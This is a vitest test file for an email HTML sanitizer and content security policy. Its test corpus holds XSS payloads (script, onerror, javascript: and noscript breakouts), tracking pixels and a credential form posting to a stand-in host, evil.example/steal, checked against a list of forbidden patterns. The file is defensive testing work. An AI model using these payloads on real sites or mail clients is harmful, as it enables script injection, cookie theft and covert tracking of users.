import { describe, expect, it } from "vitest";
import { contentSecurityPolicy, displayOrigin } from "./document.ts";
import { BLOCKED_IMAGE_PLACEHOLDER, sanitizeEmailHtml } from "./sanitize.ts";

const OWN = "https://desk.example.test/api/v1/attachments/";
const options = {
  allowRemoteImages: false,
  resolveCid: (cid: string) => (cid === "logo@acme" ? `${OWN}11111111-1111-4111-8111-111111111111` : null),
  ownAttachmentUrl: (url: string) =>
    url.startsWith("/api/v1/attachments/") ? `${OWN}${url.slice(20)}` : null,
};
const clean = (html: string, allowRemoteImages = false) =>
  sanitizeEmailHtml(html, { ...options, allowRemoteImages }).html;

/** Markup no sanitized output may contain, whatever the input. */
const FORBIDDEN = [
  /<script/i,
  /<style/i,
  /<svg/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<meta/i,
  /<base/i,
  /<link/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /expression\s*\(/i,
  /url\s*\(/i,
  /evil\.example/i,
];

const corpus: [string, string][] = [
  ["a script element", `<p>hi</p><script>alert(document.cookie)</script>`],
  ["a script split by a comment", `<scr<!-- -->ipt>alert(1)</script>`],
  ["an onerror handler", `<img src="x" onerror="alert(1)">`],
  ["an unquoted onerror handler", `<img src=x onerror=alert(1)//>`],
  ["a javascript: link", `<a href="javascript:alert(1)">click</a>`],
  ["a javascript: link hidden by case and entities", `<a href="JaVa&#x09;ScRiPt:alert(1)">click</a>`],
  ["a vbscript: link", `<a href="vbscript:msgbox(1)">click</a>`],
  ["an svg onload", `<svg onload="alert(1)"><circle r="10"/></svg>`],
  ["an svg image in a data URL", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
  ["a style expression", `<div style="width: expression(alert(1))">x</div>`],
  ["a style url", `<div style="background-image: url(https://evil.example/track.png)">x</div>`],
  ["a style url hidden by an escape", `<div style="background: u\\72l(https://evil.example/t)">x</div>`],
  ["a style block", `<style>body { background: url(https://evil.example/x) }</style><p>x</p>`],
  ["a meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">`],
  ["a base href", `<base href="https://evil.example/"><a href="/login">x</a>`],
  [
    "a form with an action",
    `<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>`,
  ],
  ["a formaction", `<button formaction="https://evil.example/">Go</button>`],
  ["an iframe", `<iframe src="https://evil.example/"></iframe>`],
  [
    "an object and an embed",
    `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/">`,
  ],
  ["a link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ["a remote image", `<img src="https://evil.example/pixel.gif" width="1" height="1">`],
  ["a protocol-relative image", `<img src="//evil.example/pixel.gif">`],
  ["an srcset", `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://evil.example/a.png 2x">`],
  ["a table background", `<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>`],
  ["a math xlink", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`],
  ["a template", `<template><img src=x onerror=alert(1)></template>`],
  ["a noscript breakout", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
];

describe("the email HTML sanitizer", () => {
  it.each(corpus)("removes every active part of %s", (_name, html) => {
    const output = clean(html);
    for (const pattern of FORBIDDEN) expect(output).not.toMatch(pattern);
  });

  it("keeps the text, formatting and safe links of an ordinary email", () => {
    const output = clean(
      `<div dir="auto"><p style="color: #333; font-family: 'Helvetica', sans-serif">Hello <b>team</b>,</p>` +
        `<blockquote>quoted</blockquote><a href="https://example.test/doc">the doc</a></div>`,
    );
    expect(output).toContain(
      `<p style="color:#333;font-family:'Helvetica', sans-serif">Hello <b>team</b>,</p>`,
    );
    expect(output).toContain("<blockquote>quoted</blockquote>");
    expect(output).toContain(
      `<a href="https://example.test/doc" target="_blank" rel="noopener noreferrer">the doc</a>`,
    );
  });

  it("opens every link in a new tab without a referrer or an opener", () => {
    expect(clean(`<a href="mailto:a@example.test" target="_self" rel="opener">mail</a>`)).toBe(
      `<a href="mailto:a@example.test" target="_blank" rel="noopener noreferrer">mail</a>`,
    );
  });

  it("replaces remote images by a placeholder, counts them, and shows them once allowed", () => {
    const html = `<img src="https://images.example.test/a.png" alt="chart">`;
    const blocked = sanitizeEmailHtml(html, options);
    expect(blocked.blockedImages).toBe(1);
    expect(blocked.html).toContain(BLOCKED_IMAGE_PLACEHOLDER.slice(0, 30));
    expect(blocked.html).not.toContain("images.example.test");
    const allowed = sanitizeEmailHtml(html, { ...options, allowRemoteImages: true });
    expect(allowed.blockedImages).toBe(0);
    expect(allowed.html).toContain(`src="https://images.example.test/a.png"`);
  });

  it("points inline images at our attachment URLs and keeps small raster data images", () => {
    expect(clean(`<img src="cid:logo@acme">`)).toContain(`src="${OWN}11111111-1111-4111-8111-111111111111"`);
    expect(clean(`<img src="/api/v1/attachments/22222222-2222-4222-8222-222222222222">`)).toContain(
      `src="${OWN}22222222-2222-4222-8222-222222222222"`,
    );
    expect(clean(`<img src="cid:unknown@part">`)).toContain(BLOCKED_IMAGE_PLACEHOLDER.slice(0, 30));
    expect(clean(`<img src="data:image/png;base64,iVBORw0KGgo=">`)).toContain(
      "data:image/png;base64,iVBORw0KGgo=",
    );
  });

  it("flattens absurdly deep nesting instead of reproducing it", () => {
    const deep = `${"<div>".repeat(5000)}bottom${"</div>".repeat(5000)}`;
    const output = clean(deep);
    expect(output).toContain("bottom");
    expect(output.split("<div>").length - 1).toBeLessThanOrEqual(100);
  });

  it("builds a policy that allows no script, only our attachments and data: images, and no forms", () => {
    const policy = contentSecurityPolicy("https://desk.example.test", false);
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("img-src https://desk.example.test/api/v1/attachments/ data:;");
    expect(policy).toContain("style-src 'unsafe-inline'");
    expect(policy).toContain("form-action 'none'");
    expect(policy).toMatch(/sandbox( |$)/);
    expect(policy).not.toMatch(/allow-scripts|allow-same-origin|allow-forms/);
    expect(contentSecurityPolicy("https://desk.example.test", true)).toContain("data: https: http:");
  });

  it("takes the origin from a plain Host header and never lets a Host inject policy text", () => {
    expect(displayOrigin("https", "Desk.Example.test:8443", "http://127.0.0.1:3000")).toBe(
      "https://desk.example.test:8443",
    );
    expect(displayOrigin("http", "[::1]:3000", "http://127.0.0.1:3000")).toBe("http://[::1]:3000");
    expect(displayOrigin("https", "x; script-src *", "https://desk.example.test")).toBe(
      "https://desk.example.test",
    );
    expect(displayOrigin("https", undefined, "https://desk.example.test/base")).toBe(
      "https://desk.example.test",
    );
  });
});
